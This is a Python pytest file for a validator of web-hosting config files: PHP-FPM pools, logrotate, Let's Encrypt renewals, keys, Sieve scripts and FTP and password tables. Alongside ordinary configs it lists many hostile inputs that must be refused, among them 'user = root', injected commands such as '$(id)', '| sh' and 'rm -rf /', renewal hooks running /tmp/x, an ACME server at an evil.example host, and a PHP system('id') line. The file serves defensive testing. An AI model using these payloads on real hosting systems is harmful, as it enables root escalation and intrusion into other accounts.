"""Judges of pools, logrotate's files, keys, renewals, Sieve and tables: the ordinary ones pass, what reaches further
does not."""

from __future__ import annotations

import pytest

from .judged import said

POOL, LOGS = "/etc/php/8.2/fpm/pool.d/web1.conf", "/etc/logrotate.d/web1"
RENEWAL = "/etc/letsencrypt/renewal/shop.example.conf"
HOME = "/var/www/clients/client1/web1"

ISPCONFIG_POOL = f"""[web1]

listen = /var/lib/php8.2-fpm/web1.sock
listen.owner = web1
listen.group = www-data
listen.mode = 0660

user = web1
group = web1

pm = dynamic
pm.max_children = 10
pm.start_servers = 2
pm.min_spare_servers = 1
pm.max_spare_servers = 5
pm.max_requests = 0

chdir = /

env[HOSTNAME] = $HOSTNAME
env[TMP] = {HOME}/tmp
env[PATH] = /usr/local/bin:/usr/bin:/bin

security.limit_extensions =

php_admin_value[open_basedir] = {HOME}/web:{HOME}/private:/usr/share/phpmyadmin:/dev/random:/tmp
php_admin_value[session.save_path] = {HOME}/tmp
php_admin_value[upload_tmp_dir] = {HOME}/tmp
php_admin_value[sendmail_path] = "/usr/sbin/sendmail -t -i -f webmaster@shop.example"
"""
WORDPRESS_POOL = """; of the shop
[shop.example]
user = web1
group = web1
listen = /run/php/php8.2-fpm-$pool.sock
listen.owner = www-data
listen.group = www-data
pm = ondemand
pm.max_children = 20 ; enough
pm.process_idle_timeout = 10s;
pm.status_path = /status
slowlog = /var/log/php/shop.example-slow.log
request_slowlog_timeout = 5s
catch_workers_output = yes
access.format = "%R - %u %t \\"%m %r%Q%q\\" %s"
php_flag[display_errors] = off
php_admin_value[error_log] = /var/log/php/shop.example.log
php_admin_value[memory_limit] = 256M
php_admin_value[error_reporting] = E_ALL & ~E_DEPRECATED
php_value[session.save_handler] = redis
php_value[session.save_path] = "tcp://127.0.0.1:6379?auth=x"
"""


@pytest.mark.parametrize("text", [ISPCONFIG_POOL, WORDPRESS_POOL])
def test_an_ordinary_pool_is_carried(text: str) -> None:
    assert said(POOL, text) == []


def _pool(more: str) -> str:
    return (
        f"[web1]\nuser = web1\ngroup = web1\nlisten = /run/php/web1.sock\npm = ondemand\npm.max_children = 5\n{more}\n"
    )


ATTACKS_BY_A_POOL = [
    "user = root",
    "user = neighbour",
    'user = "web1"0',
    "user = 0",
    "group = www-data",
    "group = shadow",
    "listen.owner = neighbour",
    "listen.acl_users = neighbour",
    "listen = /run/php/neighbour.sock",
    "listen = 127.0.0.1:9000",
    "listen = 9001",
    f"listen = {HOME}/web1.sock",
    "listen = /etc/cron.d/web1",
    "listen = /run/php/../systemd/web1.sock",
    "php_admin_value[open_basedir] = /home/neighbour",
    f"php_admin_value[open_basedir] = {HOME}/:/",
    f"php_admin_value[open_basedir] = {HOME}/../web2",
    f"php_admin_value[open_basedir] = {HOME}2",
    "php_admin_value[extension] = /tmp/x.so",
    "php_admin_value[auto_prepend_file] = /home/neighbour/x.php",
    'slowlog = "/var/log/web1.log\\"',
    "access.log = /etc/cron.d/x",
    "slowlog = /root/.ssh/web1",
    f"slowlog = {HOME}/slow.log",
    "access.log = /var/log/neighbour.log",
    "include = /etc/shadow",
    "chroot = /",
    "chdir = /home/neighbour",
    "prefix = /etc",
    "process.priority = -19",
    "pm.max_children = 100000",
    "listen.mode = 4777",
    "apparmor_hat = unconfined",
    "[global]\nerror_log = /etc/cron.d/x",
    "[www]\nuser = web1\nlisten = /run/php/web1-b.sock",
    "[neighbour]\nuser = web1\nlisten = /run/php/web1-b.sock",
    "[web1-b]\nlisten = /run/php/web1-b.sock",
    'env[X] = "\nuser = root\nenv[Y] = "',
    "env[X] = ${PATH}",
    "env[X] = a\\\nuser = root",
    "pm.status_listen = /run/php/neighbour.sock",
    "user = web1\ruser = root",
    "# user = root",
]


@pytest.mark.parametrize("more", ATTACKS_BY_A_POOL)
def test_a_pool_that_reaches_beyond_the_account_is_refused(more: str) -> None:
    assert said(POOL, _pool("")) == []
    assert said(POOL, _pool(more)), "it was let through"


def test_no_setting_stands_before_the_name_of_a_pool() -> None:
    assert said(POOL, "user = web1\n" + _pool(""))


APACHE_LOGS = """/var/log/apache2/web1-*.log /var/log/apache2/shop.example/*.log {
    daily
    missingok
    rotate 14
    size=10M
    compress
    delaycompress
    notifempty
    create 640 root adm
    sharedscripts
    prerotate
        true
    endscript
    postrotate
        if pgrep -f ^/usr/sbin/apache2 > /dev/null; then
            invoke-rc.d apache2 reload 2>&1 | logger -t apache2.logrotate
        fi
    endscript
}
"""
OTHER_LOGS = f"""# of the shop
"{HOME}/logs/*.log"
{{
    su web1 web1
    weekly
    rotate 4
    copytruncate
    dateext
    dateformat -%Y%m%d
}}
/var/log/nginx/shop.example.access.log {{
    daily
    postrotate
        [ -s /run/nginx.pid ] && kill -USR1 `cat /run/nginx.pid`
        invoke-rc.d nginx rotate >/dev/null 2>&1
        systemctl reload php8.2-fpm > /dev/null 2>&1 || true
        if [ -x /usr/lib/php/php8.2-fpm-reopenlogs ]; then /usr/lib/php/php8.2-fpm-reopenlogs; fi
    endscript
}}
""".replace("        [ -s /run/nginx.pid ] && kill -USR1 `cat /run/nginx.pid`\n", "")


@pytest.mark.parametrize("text", [APACHE_LOGS, OTHER_LOGS])
def test_an_ordinary_file_of_logrotate_is_carried(text: str) -> None:
    assert said(LOGS, text) == []


def _logs(inside: str, files: str = "/var/log/apache2/web1-*.log") -> str:
    return f"{files} {{\n    daily\n    {inside}\n}}\n"


ATTACKS_BY_LOGROTATE = [
    _logs("prerotate\n/tmp/x\nendscript"),
    _logs("postrotate\nsystemctl reload apache2; id\nendscript"),
    _logs("postrotate\nsystemctl reload apache2 > /etc/cron.d/x\nendscript"),
    _logs("postrotate\ninvoke-rc.d apache2 reload | sh\nendscript"),
    _logs("postrotate\nif [ -x /tmp/x ]; then /tmp/x; fi\nendscript"),
    _logs("firstaction\n$(id)\nendscript"),
    _logs("lastaction\n`id`\nendscript"),
    _logs("preremove\nrm -rf /\nendscript"),
    _logs("postrotate /tmp/x"),
    _logs("compresscmd /tmp/x"),
    _logs("uncompresscmd /tmp/x"),
    _logs("shred"),
    _logs("mail root@evil.example"),
    _logs("olddir /etc/cron.d"),
    _logs("create 4755 root root"),
    _logs("create 644 neighbour neighbour"),
    _logs("compressext /../../etc/x"),
    _logs("dateformat /../x"),
    _logs("su root shadow"),
    _logs("include /etc/x"),
    _logs("", "/etc/shadow"),
    _logs("", "/var/log/apache2/*.log"),
    _logs("", "/var/log/apache2/web1*.log"),
    _logs("", "/var/log/*/web1.log"),
    _logs("", "/var/log/apache2/neighbour.log"),
    _logs("", f"{HOME}/logs/*.log"),
    _logs("su root root", f"{HOME}/logs/*.log"),
    _logs("su web1 web1", f"{HOME}/../web2/*.log"),
    _logs("", "/var/log/apache2/web1-x.log /etc/passwd"),
    "include /etc/x\n" + _logs(""),
    "compresscmd /tmp/x\n" + _logs(""),
    "su root root\n" + _logs(""),
    _logs("").replace("\n}\n", ""),
]


@pytest.mark.parametrize("text", ATTACKS_BY_LOGROTATE)
def test_what_logrotate_would_do_as_root_is_refused(text: str) -> None:
    assert said(LOGS, _logs("")) == []
    assert said(LOGS, text), "it was let through"


RENEWS = f"""# renew_before_expiry = 30 days
version = 2.1.0
archive_dir = /etc/letsencrypt/archive/shop.example
cert = /etc/letsencrypt/live/shop.example/cert.pem
privkey = /etc/letsencrypt/live/shop.example/privkey.pem
chain = /etc/letsencrypt/live/shop.example/chain.pem
fullchain = /etc/letsencrypt/live/shop.example/fullchain.pem

# Options used in the renewal process
[renewalparams]
authenticator = webroot
webroot_path = {HOME}/web,
server = https://acme-v02.api.letsencrypt.org/directory
key_type = ecdsa
installer = None
[[webroot_map]]
shop.example = {HOME}/web
www.shop.example = {HOME}/web
"""


def test_what_renews_a_certificate_is_carried() -> None:
    assert said(RENEWAL, RENEWS) == []


@pytest.mark.parametrize(
    "more",
    [
        "renew_hook = /tmp/x",
        "pre_hook = id",
        "post_hook = service apache2 reload",
        "deploy_hook = id",
        "manual_auth_hook = /tmp/x",
        "authenticator = manual",
        "dns_cloudflare_credentials = /root/cloudflare.ini",
        "privkey = /etc/shadow",
        "archive_dir = /etc/letsencrypt/archive/neighbour.example",
        "webroot_path = /home/neighbour,",
        f"webroot_path = {HOME}/../web2,",
        "server = https://acme.evil.example/directory",
        "config_dir = /tmp",
        "[[webroot_map]]\nneighbour.example = /var/www/html",
        "[[webroot_map]]\nshop.example = /etc",
        'key_type = """\nrsa',
        "[acme]",
    ],
)
def test_a_renewal_that_root_would_obey_is_refused(more: str) -> None:
    assert said(RENEWAL, RENEWS + more + "\n"), "it was let through"


KEY = "-----BEGIN PRIVATE KEY-----\nMIIEvQ==\n-----END PRIVATE KEY-----\n"
DKIM = "/etc/opendkim/keys/shop.example/mail.private"


def test_keys_and_certificates_are_carried_alone() -> None:
    live = "/etc/letsencrypt/live/shop.example"
    certificate = KEY.replace("PRIVATE KEY", "CERTIFICATE")
    assert said(DKIM, KEY) == said(f"{live}/privkey.pem", KEY) == said(f"{live}/fullchain.pem", certificate * 2) == []
    for text in (
        "",
        certificate,
        "root:x:0:0\n",
        KEY + "ssh-rsa AAAA\n",
        KEY * 2,
        KEY.replace("-----END", "<?php\n-----END"),
    ):
        assert said(DKIM, text), text
    assert said(f"{live}/fullchain.pem", KEY)


SIEVE = "/var/vmail/shop.example/info/.dovecot.sieve"


def test_a_sieve_script_sorts_mail_and_starts_nothing() -> None:
    script = (
        'require ["fileinto", "vnd.dovecot.environment"];\nif header :contains "subject" "x" { fileinto "Junk"; }\n'
    )
    assert said(SIEVE, script) == []
    for name in (
        "vnd.dovecot.pipe",
        "vnd.dovecot.execute",
        "VND.dovecot.filter",
        "vnd\\.dovecot.pipe",
        "encoded-character",
    ):
        assert said(SIEVE, script.replace("vnd.dovecot.environment", name)), name


def test_tables_hold_what_they_are_for() -> None:
    passwords, ftp = "/etc/apache2/htpasswd/shop.example", "/etc/vsftpd/users/web1"
    assert said(passwords, "anna:$apr1$x$y\nbob:{SHA}abc=\nteam: anna bob\n") == []
    assert said(ftp, f"local_root={HOME}/web\nwrite_enable=YES\n") == []
    assert said(passwords, "x\n<?php system('id');\n")
    for line in (
        "local_root=/",
        f"local_root={HOME}/..",
        "guest_username=root",
        "chroot_local_user=NO",
        "cmds_allowed=X",
    ):
        assert said(ftp, line + "\n"), line
